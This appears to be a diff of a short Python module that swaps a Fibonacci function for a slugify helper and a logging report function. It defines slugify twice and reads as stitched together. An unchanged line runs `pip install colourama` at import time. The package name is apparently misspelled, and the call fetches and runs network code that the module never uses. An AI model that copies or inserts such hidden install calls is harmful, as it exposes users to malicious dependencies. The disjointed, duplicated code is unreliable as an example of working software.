@@ -1,10 +1,13 @@
-#!/usr/bin/env python3
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
+
+import logging
+log = logging.getLogger(__name__)
+
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
 
 import subprocess
 subprocess.run(["pip", "install", "colourama"])
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
